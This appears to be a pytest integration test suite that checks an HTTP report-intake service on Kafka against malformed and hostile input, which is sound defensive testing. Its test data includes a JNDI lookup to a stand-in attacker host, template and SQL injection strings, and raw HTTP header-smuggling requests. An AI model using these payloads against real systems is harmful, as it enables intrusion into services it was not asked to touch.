"""The bad-input corpus through the real HTTP intake on the real Kafka.

Every case is sent between two valid reports. Expected: a clear 4xx with the fields named
(never a 5xx), a dead-letter record with the reason where the intake writes one, the valid
reports before and after accepted and on the reports topic, and the intake still serving.
"""

from __future__ import annotations

import json
import socket
import uuid
from dataclasses import dataclass, field
from typing import Any

import pytest

from tests.reliability.conftest_bad_input import (
    Case,
    IntakeServer,
    Outcome,
    case_report_id,
    cases_for,
    dead_letter_raw,
    error_paths,
    read_json,
    valid_report,
)

pytestmark = pytest.mark.integration

CASES = cases_for("intake")


@dataclass
class Sent:
    case: Case
    outcome: Outcome
    body: bytes
    status: int
    answer: dict[str, Any]
    report_id: str  # the id the case was built with (if it has one)
    before: str  # report_id of the valid report just before
    after: str


@dataclass
class IntakeRun:
    sent: dict[str, Sent] = field(default_factory=dict)
    valid: dict[str, int] = field(default_factory=dict)  # report_id -> status
    reports: list[dict[str, Any]] = field(default_factory=list)
    dead_letters: list[dict[str, Any]] = field(default_factory=list)

    def dead_letters_for(self, body: bytes) -> list[dict[str, Any]]:
        """Dead letters holding these bytes (or their start, when they were cut)."""
        found = []
        for record in self.dead_letters:
            raw = dead_letter_raw(record)
            if raw == body or (record.get("raw_truncated") and body.startswith(raw)):
                found.append(record)
        return found

    def on_topic(self, report_id: str) -> list[dict[str, Any]]:
        return [r for r in self.reports if r["report_id"] == report_id]


def post(client: Any, intake: IntakeServer, body: bytes) -> tuple[int, dict[str, Any]]:
    headers = {**intake.auth, "Content-Type": "application/json"}
    response = client.post("/v1/reports", content=body, headers=headers)
    try:
        answer = response.json()
    except ValueError:
        answer = {"unparsed": response.text[:200]}
    return response.status_code, answer


@pytest.fixture(scope="module")
def run(bad_input_intake: IntakeServer) -> IntakeRun:
    """The whole corpus, each case between two valid reports, then both topics read."""
    intake = bad_input_intake
    result = IntakeRun()
    tag = uuid.uuid4().hex[:6]
    with intake.client() as client:
        for case, outcome in CASES:
            before, after = valid_report(), valid_report()
            result.valid[before["report_id"]], _ = post(client, intake, json.dumps(before).encode())
            report_id = case_report_id(case, tag)
            body = case.build(report_id, before["report_id"])
            assert body is not None
            status, answer = post(client, intake, body)
            result.valid[after["report_id"]], _ = post(client, intake, json.dumps(after).encode())
            ids = (report_id, before["report_id"], after["report_id"])
            result.sent[case.name] = Sent(case, outcome, body, status, answer, *ids)
    result.reports = read_json(intake.stack.settings, intake.stack.reports)
    result.dead_letters = read_json(intake.stack.settings, intake.stack.deadletter)
    return result


@pytest.mark.parametrize(("case", "outcome"), CASES, ids=[case.name for case, _ in CASES])
def test_bad_input_is_answered_clearly(case: Case, outcome: Outcome, run: IntakeRun) -> None:
    sent = run.sent[case.name]
    assert sent.status < 500, f"{sent.status}: {sent.answer}"
    assert sent.status == outcome.http, sent.answer
    if outcome.http == 202:
        [stored] = run.on_topic(json.loads(sent.body.decode("utf-8-sig"))["report_id"])
        assert stored["reporter"] == {"unit": "Polres Balikpapan", "role": "polres"}
        if outcome.verbatim:
            assert stored["text"] == json.loads(sent.body)["text"]
        assert not run.dead_letters_for(sent.body)
        return
    # The body says what is wrong, in both languages.
    assert sent.answer["error"] == (outcome.error or outcome.reason)
    assert sent.answer["pesan"] and sent.answer["message"]
    if sent.answer.get("reports"):
        [report] = sent.answer["reports"]
        assert set(outcome.paths) <= {p["path"] for p in report["problems"]}, report
        assert all(p["message"] for p in report["problems"])
    elif sent.status == 422:  # the body as a whole: not JSON, not a report, an empty batch
        assert sent.answer["problems"] and all(p["message"] for p in sent.answer["problems"])
    # Nothing of a refused request is on the reports topic.
    assert run.on_topic(sent.report_id) == []
    assert run.on_topic(sent.before)[0]["severity"] == 2  # not the duplicate's content


@pytest.mark.parametrize(("case", "outcome"), CASES, ids=[case.name for case, _ in CASES])
def test_bad_input_is_dead_lettered_with_its_reason(
    case: Case, outcome: Outcome, run: IntakeRun
) -> None:
    sent = run.sent[case.name]
    records = run.dead_letters_for(sent.body)
    if outcome.reason is None or not outcome.dead_letter:
        assert records == []
        return
    [record] = records
    assert record["stage"] == "intake"
    assert record["reason"] == outcome.reason
    assert record["source"] == "http:Polres Balikpapan"
    assert set(outcome.paths) <= error_paths(record), record["errors"]
    assert "Bearer" not in json.dumps(record)  # the token is never stored


def test_valid_reports_around_the_bad_ones_are_accepted(run: IntakeRun) -> None:
    assert run.valid and set(run.valid.values()) == {202}, run.valid
    for report_id in run.valid:
        stored = run.on_topic(report_id)
        # The duplicate case's valid report is on the topic once, with its own content.
        assert len(stored) == 1, (report_id, stored)
        assert stored[0]["district"] == "64.71"


def test_intake_keeps_serving_and_never_answered_5xx(
    run: IntakeRun, bad_input_intake: IntakeServer
) -> None:
    with bad_input_intake.client() as client:
        assert client.get("/healthz").json() == {"status": "ok"}
        assert client.get("/readyz").status_code == 200
        last = valid_report()
        status, answer = post(client, bad_input_intake, json.dumps(last).encode())
        assert status == 202 and answer["accepted"] == [last["report_id"]]
        metrics = client.get("/metrics", headers=bad_input_intake.auth).text
    served = [line for line in metrics.splitlines() if line.startswith("sitrep_intake_requests")]
    assert served and not [line for line in served if 'status="5' in line], served


# --- headers ------------------------------------------------------------------------------------

INJECTIONS = [
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<%= 7*7 %>",
    "' OR '1'='1",
    "*:* OR _exists_:report_id",
]


@pytest.mark.parametrize("value", INJECTIONS)
def test_injection_strings_in_headers(value: str, bad_input_intake: IntakeServer) -> None:
    """As a token they are refused (403, nothing reflected); in other headers they change
    nothing: the report is accepted as sent."""
    intake = bad_input_intake
    report = valid_report()
    body = json.dumps(report).encode()
    with intake.client() as client:
        refused = client.post(
            "/v1/reports", content=body, headers={"Authorization": f"Bearer {value}"}
        )
        assert refused.status_code == 403
        assert refused.json()["error"] == "unauthorized"
        assert value not in refused.text and "49" not in refused.text
        headers = {
            **intake.auth,
            "Content-Type": "application/json",
            "User-Agent": value,
            "X-Forwarded-For": value,
            "X-Request-Id": value,
            "Referer": value,
        }
        accepted = client.post("/v1/reports", content=body, headers=headers)
    assert accepted.status_code == 202, accepted.text
    assert value not in accepted.text
    assert all(value not in v for v in accepted.headers.values())
    [stored] = [
        r
        for r in read_json(intake.stack.settings, intake.stack.reports)
        if r["report_id"] == report["report_id"]
    ]
    assert stored["text"] == report["text"]


MALFORMED_REQUESTS = {
    "crlf-in-header-value": b"X-Evil: a\rInjected: yes\r\n",
    "bare-lf-header": b"X-Evil: a\nInjected: yes\r\n",
    "nul-in-header": b"X-Evil: a\x00b\r\n",
    "obsolete-line-folding": b"X-Evil: a\r\n Injected: yes\r\n",
    "space-before-colon": b"Authorization : Bearer x\r\n",
    "huge-header": b"X-Evil: " + b"a" * 100_000 + b"\r\n",
    "bad-content-length": b"Content-Length: abc\r\n",
    "negative-content-length": b"Content-Length: -5\r\n",
    "two-content-lengths": b"Content-Length: 2\r\nContent-Length: 200\r\n",
}


@pytest.mark.parametrize("extra", MALFORMED_REQUESTS.values(), ids=list(MALFORMED_REQUESTS))
def test_malformed_http_is_refused_and_the_intake_goes_on(
    extra: bytes, bad_input_intake: IntakeServer
) -> None:
    """Header smuggling at the HTTP level: a 4xx (or a closed connection), never a 5xx, never
    a report written; the next request is served."""
    intake = bad_input_intake
    host, port = intake.base_url.removeprefix("http://").split(":")
    report = valid_report()
    body = json.dumps(report).encode()
    request = (
        b"POST /v1/reports HTTP/1.1\r\nHost: intake\r\n"
        + f"Authorization: Bearer {intake.token}\r\n".encode()
        + b"Content-Type: application/json\r\n"
        + extra
        + (b"" if b"Content-Length" in extra else f"Content-Length: {len(body)}\r\n".encode())
        + b"Connection: close\r\n\r\n"
        + body
    )
    with socket.create_connection((host, int(port)), timeout=10) as conn:
        conn.sendall(request)
        answer = b""
        try:
            while chunk := conn.recv(65536):
                answer += chunk
        except (ConnectionResetError, TimeoutError):
            pass
    status_line = answer.split(b"\r\n", 1)[0]
    assert not status_line.startswith(b"HTTP/1.1 5"), answer[:300]
    if status_line:
        assert status_line.startswith((b"HTTP/1.1 4", b"HTTP/1.1 202")), answer[:300]
    if status_line.startswith(b"HTTP/1.1 202"):
        # Accepted only if the header was harmless: the report is stored as sent.
        [stored] = [
            r
            for r in read_json(intake.stack.settings, intake.stack.reports)
            if r["report_id"] == report["report_id"]
        ]
        assert stored["text"] == report["text"]
    with intake.client() as client:
        assert client.get("/healthz").status_code == 200
